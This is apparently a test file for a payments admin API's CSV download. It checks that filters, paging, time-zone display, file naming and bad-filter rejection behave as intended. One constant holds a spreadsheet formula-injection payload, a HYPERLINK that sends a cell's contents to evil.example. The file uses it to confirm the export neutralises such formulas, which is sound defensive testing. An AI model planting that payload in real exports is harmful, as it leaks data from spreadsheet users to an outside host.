import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { sql } from 'kysely';
import { localDateTime } from '../../src/time-zone.js';
import { assertAdminError } from '../support/admin.js';
import { admin, bankCall, bankWithToken, paymentBody } from '../support/bank.js';
import { databaseKinds } from '../support/databases.js';
import { asWritten, csvRecords, everyPage } from '../support/lists.js';
import { payableMember } from '../support/money-desk.js';
import { ADMIN_TOKEN, json, useTestApp } from '../support/test-app.js';

// GET /admin/v1/payments?format=csv: the list a finance officer downloads is exactly the list the
// filters find, every page of it, whatever the page size asked for.

const ZONE = 'Africa/Nairobi';
const WANJIRU = '4300001';
const OTIENO = '4300002';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** The CSV record the list's payment should be, field by field. */
const expectedRecord = (p: Record<string, any>) => ({
  paidOn: localDateTime(new Date(p.transactionDate), ZONE),
  transactionDate: p.transactionDate,
  receivedAt: p.receivedAt,
  clientName: asWritten(p.clientName),
  transactionReference: asWritten(p.transactionReference),
  paymentType: p.paymentType,
  memberNumber: asWritten(p.memberNumber),
  memberName: asWritten(p.memberName),
  customerRef: asWritten(p.customerRef),
  payerName: asWritten(p.payerName),
  payerPhone: asWritten(p.payerPhone),
  amount: p.amount,
  currency: p.currency,
  status: p.status,
  erpRefId: asWritten(p.erpRefId),
  heldReason: asWritten(p.heldReason),
  paymentId: String(p.paymentId),
  clientId: p.clientId,
});

for (const kind of databaseKinds()) {
  describe(`payments downloaded as CSV (${kind})`, () => {
    const t = useTestApp(kind, { config: { timeZone: ZONE } });
    let first: Awaited<ReturnType<typeof bankWithToken>>;
    let second: Awaited<ReturnType<typeof bankWithToken>>;

    before(async () => {
      first = await bankWithToken(t.app, 'Lists Bank');
      second = await bankWithToken(t.app, 'Second Bank');
      await payableMember(t.app, first, 'Grace Wanjiru', WANJIRU);
      await payableMember(t.app, first, 'Peter Otieno', OTIENO);
      await bankCall(t.app, second.token, 'validate', { customerRef: WANJIRU });
      const plan: [typeof first, string, Record<string, unknown>][] = [
        // Paid at 01:30 on the 21st in Nairobi: the 20th in UTC.
        [
          first,
          WANJIRU,
          {
            transactionReference: 'FT-LISTS-ABC1',
            amount: '100.00',
            payerPhone: '+254 712 345 678',
            transactionDate: '2026-11-20T22:30:00Z',
          },
        ],
        [
          first,
          OTIENO,
          {
            transactionReference: 'kcb-lists-2',
            amount: '200.00',
            paymentType: 'RTGS',
            payerName: FORMULA,
            transactionDate: '2026-11-20T09:00:00Z',
          },
        ],
        [
          first,
          OTIENO,
          {
            transactionReference: 'LISTS-USD-3',
            amount: '50.00',
            currency: 'USD',
            payerName: 'Otieno, "Peter"',
            transactionDate: '2026-11-21T09:00:00Z',
          },
        ],
        // No such member: held.
        [first, '4399999', { transactionReference: 'HELD-LISTS-4', amount: '75.00', payerName: 'Mary Held' }],
        [second, WANJIRU, { transactionReference: 'SB-LISTS-5', amount: '10.00', payerName: 'Grace W' }],
      ];
      for (const [bank, member, overrides] of plan) {
        const response = await bankCall(t.app, bank.token, 'payments', paymentBody(member, overrides));
        assert.ok([200, 404].includes(response.statusCode), response.body);
      }
    });

    /** Every page of the JSON list, pages of two unless said. */
    const listed = (query: string, limit = 2) => everyPage(t.app, '/payments', query, limit);

    const downloaded = async (query: string) =>
      csvRecords(
        await admin(t.app, 'GET', `/payments?format=csv&limit=1&${query}`),
        /^attachment; filename="payments[\w-]*\.csv"$/,
      );

    it('holds every payment the filters find, in the order of the list, whatever limit says', async () => {
      const queries = [
        '',
        'status=held',
        'status=accepted',
        'q=lists-a',
        'q=wanjiru',
        'q=712345678',
        'q=hyperlink',
        'status=held&q=lists',
        `customerRef=${OTIENO}`,
        'paymentType=rtgs',
        `clientId=${second.clientId}`,
        'from=2026-11-21&to=2026-11-21',
        'order=oldest',
        'transactionReference=NO-SUCH-REF',
      ];
      for (const query of queries) {
        const list = await listed(query);
        const rows = await downloaded(query);
        assert.equal(list.length === 0, query.startsWith('transactionReference='), `${query}: ${list.length} found`);
        assert.deepEqual(rows, list.map(expectedRecord), query);
      }
    });

    it('says when each was paid in the organisation’s zone, and keeps the exact times as the export does', async () => {
      const [row] = await downloaded('q=FT-LISTS-ABC1');
      assert.equal(row?.paidOn, '2026-11-21 01:30');
      assert.equal(row?.transactionDate, '2026-11-20T22:30:00.000Z');
      assert.equal(row?.memberNumber, WANJIRU);
      assert.equal(row?.memberName, 'Grace Wanjiru');
      assert.equal(row?.clientName, 'Lists Bank');
      assert.equal(row?.payerPhone, "'+254 712 345 678", 'a phone starting with + is no formula either');
      const [held] = await downloaded('status=held');
      assert.equal(held?.memberNumber, '');
      assert.equal(held?.customerRef, '4399999');
      assert.equal(held?.heldReason, 'customer_not_payable');
      assert.equal(held?.erpRefId, '');
    });

    it('neutralises a payer name a spreadsheet would run as a formula', async () => {
      const response = await admin(t.app, 'GET', '/payments?format=csv&q=kcb-lists-2');
      assert.ok(response.body.includes(`"'${FORMULA.replace(/"/g, '""')}"`), response.body);
      const [row] = csvRecords(response, /payments\.csv/);
      assert.equal(row?.payerName, `'${FORMULA}`);
    });

    it('answers CSV to Accept: text/csv when no format is named, and JSON when format=json is', async () => {
      const asked = (accept: string, query = '') =>
        t.app.inject({
          method: 'GET',
          url: `/admin/v1/payments?status=held${query}`,
          headers: { authorization: `Bearer ${ADMIN_TOKEN}`, accept },
        });
      const csv = await asked('text/csv');
      assert.deepEqual(
        csvRecords(csv, /filename="payments-held\.csv"/).map((row) => row.transactionReference),
        ['HELD-LISTS-4'],
      );
      const jsonAnswer = await asked('text/csv', '&format=json');
      assert.match(String(jsonAnswer.headers['content-type']), /^application\/json/);
      assert.equal(json(jsonAnswer).items.length, 1);
    });

    it('names the file after the filters', async () => {
      const response = await admin(t.app, 'GET', '/payments?format=csv&status=accepted&from=2026-11-20&to=2026-11-21');
      assert.equal(
        response.headers['content-disposition'],
        'attachment; filename="payments-accepted-2026-11-20-2026-11-21.csv"',
      );
    });

    it('refuses a bad filter with 400, as the list does, before any line is written', async () => {
      for (const query of [
        'status=lost',
        'from=yesterday',
        'from=2026-11-21&to=2026-11-20',
        'q=%00',
        'customerRef=12%0034',
        'format=xml',
        'order=sideways',
      ]) {
        const url = query.startsWith('format=') ? `/payments?${query}` : `/payments?format=csv&${query}`;
        const response = await admin(t.app, 'GET', url);
        assert.equal(response.statusCode, 400, `${query}: ${response.body}`);
        assert.match(String(response.headers['content-type']), /^application\/json/);
        assertAdminError(json(response));
      }
    });

    it('reads a long list in batches without losing or repeating a payment', async () => {
      // 12,345 held payments straight into the table: more than two batches of the download.
      await sql`
        insert into payments (client_id, transaction_reference, payment_type, customer_ref, amount, currency,
          transaction_date, status, held_reason, raw_notification, received_at, updated_at)
        select ${first.clientId}, 'BULK-' || n, 'MPESA', '4388888', 1 + n / 100.0, 'KES',
          timestamptz '2026-11-01T00:00:00Z' + n * interval '1 minute', 'held', 'customer_not_payable', null,
          timestamptz '2026-11-01T00:00:00Z' + n * interval '1 minute', now()
        from generate_series(1, 12345) n`.execute(t.database.db);
      for (const query of ['q=bulk-', 'q=bulk-&order=oldest', 'status=held&from=2026-11-01&to=2026-11-07']) {
        const list = await listed(query, 500);
        const rows = await downloaded(query);
        assert.equal(rows.length, list.length, query);
        assert.deepEqual(rows, list.map(expectedRecord), query);
      }
      const every = await downloaded('q=bulk-');
      assert.equal(every.length, 12345);
      assert.equal(new Set(every.map((row) => row.paymentId)).size, 12345, 'none twice');
    });
  });
}
